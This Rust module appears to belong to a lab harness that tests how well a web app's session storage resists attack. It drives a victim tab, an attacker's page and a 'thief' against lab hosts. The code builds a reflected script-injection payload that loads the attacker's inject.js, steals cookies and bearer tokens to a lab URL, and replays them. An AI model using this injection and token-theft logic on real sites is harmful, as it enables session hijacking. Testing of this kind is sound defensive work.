//! Where an attack is carried out: one site, the visitor's tab, the attacker's pages and the thief. The words here are
//! those the attacks are written in.

use std::io;
use std::time::Instant;

use serde_json::{Value, json};

use super::Run;
use super::tab::{Silent, Tab, Whereabouts, with_query};
use super::verdict::{Evidence, Seen};
use crate::accounts::{ATTACKER, VICTIM};
use crate::forge;
use crate::lab::Lab;
use crate::net::encode;
use crate::pages::Visit;
use crate::storage::Site;
use crate::text::random;
use crate::thief::{Loot, Thief, Use};
use crate::twin;

/// An attack could not be carried out.
#[derive(Debug, thiserror::Error)]
pub(crate) enum Broken {
    /// The tab was lost.
    #[error(transparent)]
    Silent(#[from] Silent),
    /// Something did not go as it must for the attack to mean anything.
    #[error("{0}")]
    Setting(String),
    /// The thief got no answer.
    #[error("a server of the lab did not answer: {0}")]
    Io(#[from] io::Error),
}

const TOO_SLOW: &str = "a token was taken, but it was over before it could be tried; the machine is too busy";

/// What an attack got.
#[derive(Debug)]
pub(crate) struct Got {
    pub(crate) seen: Seen,
    pub(crate) detail: String,
}

impl Got {
    fn new(seen: Seen, detail: impl Into<String>) -> Self {
        Self { seen, detail: detail.into() }
    }

    /// `Fell` with the first text, `Held` with the second.
    pub(crate) fn fell_if(fell: bool, so: impl Into<String>, otherwise: impl Into<String>) -> Self {
        if fell { Self::new(Seen::Fell, so) } else { Self::new(Seen::Held, otherwise) }
    }

    /// `Survived` with the first text, `Lost` with the second.
    pub(crate) fn survived_if(survived: bool, so: impl Into<String>, otherwise: impl Into<String>) -> Self {
        if survived { Self::new(Seen::Survived, so) } else { Self::new(Seen::Lost, otherwise) }
    }

    pub(crate) fn not_applicable(why: impl Into<String>) -> Self {
        Self::new(Seen::NotApplicable, why)
    }

    pub(crate) fn not_measured(why: impl Into<String>) -> Self {
        Self::new(Seen::NotMeasured, why)
    }
}

/// What every attack ends with.
pub(crate) type Tried = Result<Got, Broken>;

/// The stage of one attack on one site.
#[derive(Debug)]
pub(crate) struct Stage<'a> {
    pub(crate) lab: &'a Lab,
    pub(crate) run: &'a Run,
    pub(crate) site: Site,
    pub(crate) tab: &'a mut Tab,
    pub(crate) second: Option<&'a mut Tab>,
    pub(crate) began: Instant,
    /// Credentials of the attacker's own, from when this site's turn began.
    pub(crate) aged: Option<Loot>,
    evidence: Vec<Evidence>,
}

impl<'a> Stage<'a> {
    pub(crate) fn new(lab: &'a Lab, run: &'a Run, site: Site, tab: &'a mut Tab, second: Option<&'a mut Tab>) -> Self {
        Self { lab, run, site, tab, second, began: Instant::now(), aged: None, evidence: Vec::new() }
    }

    pub(crate) fn into_evidence(self) -> Vec<Evidence> {
        self.evidence
    }

    /// Writes down what was observed.
    pub(crate) fn note(&mut self, what: impl Into<String>, data: Value) {
        self.evidence.push(Evidence { at: self.run.clock(), what: what.into(), data });
    }

    /// Writes down what the browser sent to the app, to addresses that begin so.
    pub(crate) fn note_wire(&mut self, path: &str) {
        let exchanges = self.lab.wire.since(self.site, self.began, path);
        let what = if exchanges.is_empty() {
            "no such request reached the app's host"
        } else {
            "what reached the app's host, and its answer"
        };
        self.note(what, json!(exchanges));
    }

    /// Whether such requests came across sites and all of them without the app's cookies: then it was the browser, or
    /// the cookie's SameSite, that stopped them.
    pub(crate) fn came_bare(&self, path: &str) -> bool {
        let exchanges = self.lab.wire.since(self.site, self.began, path);
        let mut across = exchanges.iter().filter(|exchange| exchange.is_cross_site()).peekable();
        across.peek().is_some() && across.all(|exchange| !exchange.has_cookies())
    }

    /// The app's origin.
    pub(crate) fn origin(&self) -> String {
        self.lab.places.site(self.site)
    }

    pub(crate) fn thief(&self) -> Thief<'a> {
        Thief { places: &self.lab.places, site: self.site }
    }

    /// A text that is written nowhere else.
    pub(crate) fn marker(&self) -> String {
        format!("written-by-the-attacker-{}", random())
    }

    /// Whether a note of that text was written on the victim's behalf; says by which request.
    pub(crate) fn was_written(&mut self, marker: &str) -> bool {
        let note = self.lab.journal.find(self.site, marker);
        if let Some(note) = &note {
            self.note("the app carried it out", json!(note));
        }
        note.is_some_and(|note| note.subject == VICTIM)
    }

    // ---- the victim

    /// An order to the page there, which must not fail.
    pub(crate) async fn ask(&mut self, order: Value) -> Result<Value, Broken> {
        let what = order["do"].as_str().unwrap_or_default().to_owned();
        self.tab.ask(order).await?.map_err(|error| Broken::Setting(format!("the page could not do {what:?}: {error}")))
    }

    /// Opens a page of the app.
    pub(crate) async fn open(&mut self, path: &str) -> Result<(), Broken> {
        let address = format!("{}{path}", self.origin());
        let there = self.tab.go(&address).await?;
        self.expect(&there, "driver", &address)
    }

    fn expect(&self, there: &Whereabouts, page: &str, address: &str) -> Result<(), Broken> {
        if there.page == page {
            return Ok(());
        }
        let seen = self.lab.wire.since(self.site, self.began, "/");
        let last =
            seen.last().map_or_else(String::new, |e| format!("; the app answered {} with {}", e.request, e.status));
        Err(Broken::Setting(format!("{address} did not show its page, but {}{last}", there.href)))
    }

    /// Whom the app takes the browser for.
    pub(crate) async fn who(&mut self) -> Result<Option<String>, Broken> {
        self.who_by("call").await
    }

    /// The same by `call`, the app's own code, or `plain`, cookies and nothing else.
    pub(crate) async fn who_by(&mut self, order: &str) -> Result<Option<String>, Broken> {
        let answer = self.ask(json!({ "do": order, "path": "/api/whoami" })).await?;
        let body: Value = answer["body"].as_str().and_then(|text| serde_json::from_str(text).ok()).unwrap_or_default();
        Ok(body["subject"].as_str().map(str::to_owned))
    }

    /// Signs the victim in, from whichever state; the tab is on a page of the app afterwards. Gives the session's id.
    pub(crate) async fn sign_in(&mut self) -> Result<String, Broken> {
        self.open("/welcome").await?;
        self.sign_in_here(VICTIM, false).await
    }

    pub(crate) async fn sign_in_here(&mut self, name: &str, remember: bool) -> Result<String, Broken> {
        let password = self.lab.accounts.password(name);
        let order = json!({ "do": "sign-in", "username": name, "password": password, "remember": remember });
        let answer = self.ask(order).await?;
        match self.who().await?.as_deref() {
            Some(who) if who == name => Ok(answer["session"].as_str().unwrap_or_default().to_owned()),
            who => Err(Broken::Setting(format!(
                "signing in was answered with {}, and afterwards the app took the browser for {who:?}",
                answer["status"]
            ))),
        }
    }

    /// Sees that the victim is signed in, as every attack on a session needs it, and that the tab is in the app.
    pub(crate) async fn victim_is_in(&mut self) -> Result<(), Broken> {
        let home = self.open("/").await;
        if home.is_ok() && self.who().await?.as_deref() == Some(VICTIM) {
            return Ok(());
        }
        self.sign_in().await.map(drop)
    }

    // ---- the attacker

    /// Opens the page with the injection, the script in it.
    pub(crate) async fn inject(&mut self, late: bool) -> Result<(), Broken> {
        let (origin, attacker) = (self.origin(), self.lab.places.cross_site());
        let there = self
            .tab
            .leave(|visit| json!({ "do": "go", "url": injection(&origin, "/search", &attacker, visit, late) }))
            .await?;
        self.expect(&there, "inject", &format!("{origin}/search"))?;
        self.sign_in_if_forgotten().await
    }

    /// Signs the victim in on the page the tab is on, if that page's code has forgotten who it was: a global variable
    /// does not outlive a page.
    pub(crate) async fn sign_in_if_forgotten(&mut self) -> Result<(), Broken> {
        if self.who().await?.as_deref() != Some(VICTIM) {
            self.sign_in_here(VICTIM, false).await?;
        }
        Ok(())
    }

    /// Opens the attacker's page of that origin.
    pub(crate) async fn lure(&mut self, attacker: &str) -> Result<(), Broken> {
        let there = self.tab.go(&format!("{attacker}/attack")).await?;
        if there.page == "attack" { Ok(()) } else { Err(Broken::Setting("the attacker's page did not open".into())) }
    }

    /// Sends the tab to the app from the attacker's page, by a form.
    pub(crate) async fn post_form(&mut self, path: &str, fields: Value) -> Result<(), Broken> {
        let action = format!("{}{path}", self.origin());
        self.tab
            .leave(|visit| json!({ "do": "form", "action": format!("{action}?{}", visit.query()), "fields": fields }))
            .await?;
        Ok(())
    }

    /// Sends the tab to an address of the app, by a link on the attacker's page.
    pub(crate) async fn follow_link(&mut self, path: &str, pairs: &[(&str, &str)]) -> Result<(), Broken> {
        let address = with_query(&format!("{}{path}", self.origin()), pairs);
        self.tab.go(&address).await?;
        Ok(())
    }

    // ---- the thief

    /// Signs the victim in and takes everything from the browser that opens the session: cookies as a program on the
    /// victim's machine would, tokens as an injected script would. The tab is on the injected page afterwards.
    pub(crate) async fn sign_in_and_steal(&mut self) -> Result<(String, Loot), Broken> {
        let session = self.sign_in().await?;
        let mut bearers = Vec::new();
        self.inject(false).await?;
        if self.site.storage.facts().bearer {
            self.ask(json!({ "do": "press" })).await?;
            let captured = self.found("captured").await?;
            // The newest: it lives longest.
            let newest_first: Vec<_> = captured.into_iter().rev().collect();
            bearers = self.usable(&newest_first).await?;
            bearers.truncate(1);
        }
        self.ask(json!({ "do": "steal", "url": self.lab.places.steal(self.site) })).await?;
        let cookies = self.lab.door.take(&self.tab.visit().query()).unwrap_or_default();
        let loot = Loot { cookies: self.of_this_app(cookies), bearers };
        self.note(
            "stolen as a program on the victim's machine steals: cookies belong to a host whatever the port, so a \
             request of the browser to another port of it brings them, HttpOnly or not; tokens by the injected script",
            loot.shown(),
        );
        if loot.is_empty() {
            return Err(Broken::Setting("there was nothing to steal in the browser".into()));
        }
        Ok((session, loot))
    }

    /// The same, and whether the copy opens the app from another machine. A busy machine may need longer to take a token
    /// than the token lives; then it is taken again.
    pub(crate) async fn copy(&mut self) -> Result<(String, Loot, bool), Broken> {
        let mut slow = Broken::Setting(TOO_SLOW.to_owned());
        for _ in 0..3 {
            let (session, loot) = match self.sign_in_and_steal().await {
                Ok(stolen) => stolen,
                Err(broken @ Broken::Setting(_)) => {
                    slow = broken;
                    continue;
                }
                Err(broken) => return Err(broken),
            };
            let uses = self.thief().as_the_browser(&loot).await?;
            let works = uses.iter().any(Use::opened);
            self.note("the copy, used from another machine while the victim is signed in", json!(uses));
            if works || !loot.bearers.iter().any(|token| forge::is_over(token)) {
                return Ok((session, loot, works));
            }
        }
        Err(slow)
    }

    /// A copy that works.
    pub(crate) async fn working_copy(&mut self) -> Result<(String, Loot), Broken> {
        match self.copy().await? {
            (session, loot, true) => Ok((session, loot)),
            (_, _, false) => Err(Broken::Setting("the copy opened nothing even while the victim was signed in".into())),
        }
    }

    // The twins' cookies are set for the whole domain, so those of other twins come along.
    fn of_this_app(&self, cookies: Vec<(String, String)>) -> Vec<(String, String)> {
        let twins = self.twin_cookie();
        let ours = |name: &str| if self.site.is_twin() { name.starts_with(&twins) } else { !twin::is_cookie(name) };
        cookies.into_iter().filter(|(name, _)| ours(name)).collect()
    }

    /// What an order of the injected script brought: places and values that look like tokens.
    pub(crate) async fn found(&mut self, order: &str) -> Result<Vec<(String, String)>, Broken> {
        let found = self.ask(json!({ "do": order })).await?;
        let pairs = found.as_array().into_iter().flatten();
        Ok(pairs
            .filter_map(|each| Some((each["where"].as_str()?.to_owned(), each["value"].as_str()?.to_owned())))
            .collect())
    }

    /// Those of the values that open the app as the victim, from another machine: as a bearer, or as a cookie under
    /// the names the app uses, which are no secret.
    ///
    /// A token that was over before it could be tried is no sign of protection, so then there is no answer.
    pub(crate) async fn usable(&mut self, found: &[(String, String)]) -> Result<Vec<String>, Broken> {
        let mut usable: Vec<String> = Vec::new();
        for (place, value) in found {
            if usable.contains(value) {
                continue;
            }
            let mut uses = vec![self.thief().with_bearer(value).await?];
            for name in self.cookie_names() {
                uses.push(self.thief().with_cookies(&[(name, value.clone())]).await?);
            }
            if let Some(used) = uses.iter().find(|used| used.subject.as_deref() == Some(VICTIM)) {
                self.note(format!("a token that opens the app, from {place}"), json!(used));
                usable.push(value.clone());
            }
        }
        if usable.is_empty() && found.iter().any(|(_, value)| forge::is_over(value)) {
            return Err(Broken::Setting(TOO_SLOW.to_owned()));
        }
        Ok(usable)
    }

    fn twin_cookie(&self) -> String {
        twin::cookie_name(self.site.storage, &self.lab.places.site_host(self.site))
    }

    fn cookie_names(&self) -> Vec<String> {
        if self.site.is_twin() {
            return vec![self.twin_cookie()];
        }
        vec!["__Host-Http-sessile".to_owned(), "__Host-Http-sessile-at".to_owned()]
    }

    /// The attacker's own way in.
    pub(crate) async fn attacker_signs_in(&self) -> Result<Loot, Broken> {
        Ok(self.thief().sign_in(&self.lab.accounts, ATTACKER).await?)
    }
}

/// The address of a page that repeats its query, with a script of the attacker's in the query.
pub(crate) fn injection(origin: &str, path: &str, attacker: &str, visit: &Visit, late: bool) -> String {
    let late = if late { "&late=1" } else { "" };
    let script = format!("<script src=\"{attacker}/inject.js?{}{late}\"></script>", visit.query());
    format!("{origin}{path}?q={}&{}", encode(&script), visit.query())
}
